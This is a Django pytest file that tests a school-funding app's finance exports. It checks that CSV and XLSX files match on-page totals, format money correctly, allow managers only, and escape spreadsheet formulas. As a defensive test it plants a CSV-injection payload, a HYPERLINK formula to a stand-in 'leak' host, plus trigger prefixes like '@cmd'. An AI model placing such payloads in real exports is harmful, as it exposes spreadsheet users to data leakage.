"""The finance exports (issue 5, item 4): the statement and the payment list as CSV and XLSX,
with the page's totals to the penny, money as numbers with two places, and text that a
spreadsheet would run as a formula neutralised."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Role
from funding.exports import MONEY_FORMAT, csv_cell, safe_text
from funding.factories import FundingRatesFactory, PaymentFactory
from funding.models import PaymentStatus
from funding.selectors.statements import STATEMENT_COLUMNS
from funding.services.grants import grant_compute
from leadership.factories import ParticipationFactory, ProgrammeYearFactory
from schools.factories import SchoolFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://x.example/?leak","Click")'


@pytest.fixture
def year(lea):
    year = ProgrammeYearFactory(local_authority=lea)
    FundingRatesFactory(programme_year=year, daily_supply_rate=Decimal("151.37"))
    for name, pupils in ((EVIL, 121), ("Brook Infant School", 90), ("Ashby Primary", 77)):
        school = SchoolFactory(local_authority=lea, name=name, number_on_roll=pupils)
        participation = ParticipationFactory(programme_year=year, school=school)
        grant_compute(participation=participation)
        PaymentFactory(participation=participation, amount=Decimal("1000.01"))
        PaymentFactory(
            participation=participation, amount=Decimal("333.33"), status=PaymentStatus.PAID
        )
        PaymentFactory(
            participation=participation, amount=Decimal("5.55"), status=PaymentStatus.CANCELLED
        )
    return year


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+44 1234", "'+44 1234"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("Millfield", "Millfield"),
    ],
)
def test_safe_text(value, expected):
    assert safe_text(value) == expected


def test_numbers_stay_numbers_in_csv_cells():
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(-3) == "-3"
    assert csv_cell(None) == ""


def _csv(response):
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def _xlsx(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


def _money(value):
    return Decimal(str(value)).quantize(Decimal("0.01"))


def test_statement_csv_matches_the_page_and_is_safe(client_for, users, year):
    client = client_for(users[Role.MANAGER])
    page_total = (
        client.get(reverse("funding:statement", args=[year.pk]))
        .context["statement"]
        .totals["total"]
    )
    rows = _csv(client.get(reverse("funding:statement_csv", args=[year.pk])))
    assert rows[0] == list(STATEMENT_COLUMNS)
    assert rows[-1][0] == "TOTAL"
    assert Decimal(rows[-1][-1]) == page_total
    assert sum(Decimal(row[-1]) for row in rows[1:-1]) == page_total
    schools = [row[1] for row in rows[1:-1]]
    assert f"'{EVIL}" in schools
    assert EVIL not in schools


def test_statement_xlsx_matches_the_page_with_money_as_numbers(client_for, users, year):
    client = client_for(users[Role.MANAGER])
    statement = client.get(reverse("funding:statement", args=[year.pk])).context["statement"]
    sheet = _xlsx(client.get(reverse("funding:statement_xlsx", args=[year.pk])))
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == list(STATEMENT_COLUMNS)
    total_row = rows[-1]
    assert total_row[0].value == "TOTAL"
    total_cell = total_row[STATEMENT_COLUMNS.index("total")]
    assert total_cell.data_type == "n"
    assert total_cell.number_format == MONEY_FORMAT
    assert _money(total_cell.value) == statement.totals["total"]
    supply = [row[STATEMENT_COLUMNS.index("supply_amount")] for row in rows[1:-1]]
    assert all(cell.data_type == "n" and cell.number_format == MONEY_FORMAT for cell in supply)
    assert sum(_money(cell.value) for cell in supply) == statement.totals["supply_amount"]
    names = [row[1] for row in rows[1:-1]]
    assert all(cell.data_type == "s" for cell in names)
    assert f"'{EVIL}" in [cell.value for cell in names]


def test_payment_exports_match_the_pages_totals_with_the_filters(client_for, users, year):
    client = client_for(users[Role.MANAGER])
    for query in ({}, {"status": PaymentStatus.PAID}):
        page = client.get(reverse("funding:payment_list", args=[year.pk]), query)
        totals = page.context["totals"]
        rows = _csv(client.get(reverse("funding:payment_list_csv", args=[year.pk]), query))
        amount = rows[0].index("amount")
        assert rows[-1][0] == "TOTAL"
        assert Decimal(rows[-1][amount]) == totals.live
        assert len(rows) - 2 == len(page.context["payments"])
        sheet = _xlsx(client.get(reverse("funding:payment_list_xlsx", args=[year.pk]), query))
        last = list(sheet.iter_rows())[-1]
        assert last[0].value == "TOTAL"
        assert _money(last[amount].value) == totals.live
        assert last[amount].number_format == MONEY_FORMAT
    assert totals.live == Decimal("999.99")  # three paid payments of 333.33


def test_payment_export_neutralises_a_formula_in_a_school_name(client_for, users, year):
    rows = _csv(
        client_for(users[Role.MANAGER]).get(reverse("funding:payment_list_csv", args=[year.pk]))
    )
    school = rows[0].index("school")
    assert f"'{EVIL}" in [row[school] for row in rows[1:]]
    assert not any(cell.startswith("=") for row in rows for cell in row)


@pytest.mark.parametrize(
    "role", [Role.LINK_ADVISER, Role.CONSULTANT, Role.HEADTEACHER, Role.GOVERNOR]
)
@pytest.mark.parametrize("name", ["payment_list_csv", "payment_list_xlsx"])
def test_payment_exports_for_managers_only(
    client_for, users, foreign_users, admin_user, year, role, name
):
    url = reverse(f"funding:{name}", args=[year.pk])
    assert client_for(users[role]).get(url).status_code == 403
    assert client_for(foreign_users[Role.MANAGER]).get(url).status_code == 404
    assert client_for(admin_user).get(url).status_code == 200
